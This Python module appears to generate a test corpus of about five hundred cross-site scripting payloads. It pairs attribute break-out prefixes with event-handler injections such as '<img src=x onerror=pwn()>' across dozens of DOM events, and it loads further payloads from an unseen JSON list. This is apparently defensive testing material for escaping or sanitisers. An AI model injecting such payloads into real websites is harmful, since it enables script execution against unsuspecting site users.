"""Five hundred ways in which a name tries to become a script; each calls `pwn()` or asks `//evil.example`."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

MARK = "pwn"
_LISTS = Path(__file__).parent / "lists" / "scripts.json"
_BREAKS = (
    '"', "'", '">', "'>", '"/>', "`", '" ', "' ", '"\t', '"\n', '"\f', '"/', "&quot;", "&#34;", "&#x22;", '\\"',
)  # fmt: skip
_HANDLERS = (
    "autofocus onfocus=pwn() x=", "onmouseover=pwn() x=", "<img src=x onerror=pwn()>",
    "onpointerenter=pwn() style=position:fixed x=", "accesskey=x onclick=pwn() x=",
)  # fmt: skip
_EVENTS = (
    "error", "load", "focus", "blur", "click", "mouseover", "mouseenter", "pointerenter", "pointerover", "toggle",
    "beforetoggle", "animationstart", "animationend", "transitionend", "transitionrun", "begin", "end", "repeat",
    "canplay", "loadstart", "loadedmetadata", "seeking", "play", "wheel", "scroll", "scrollend", "auxclick",
    "contentvisibilityautostatechange", "securitypolicyviolation", "beforescriptexecute", "beforematch", "pageshow",
    "hashchange", "message", "popstate", "resize", "unhandledrejection", "afterprint", "copy", "cut", "paste",
    "input", "invalid", "select", "submit", "reset", "keydown", "formdata", "slotchange", "cuechange",
)  # fmt: skip


def _all() -> Iterator[tuple[str, str]]:
    for name, texts in json.loads(_LISTS.read_text("utf-8")).items():
        for one in texts:
            yield one, name
    for start in _BREAKS:
        for handler in _HANDLERS:
            yield start + handler, "attributes"
    for event in _EVENTS:
        yield f"<img src=x on{event}=pwn() tabindex=0 autofocus style=animation-name:x>", "event handlers"


PAYLOADS: tuple[tuple[str, str], ...] = tuple(dict(_all()).items())
"""(text, category)."""
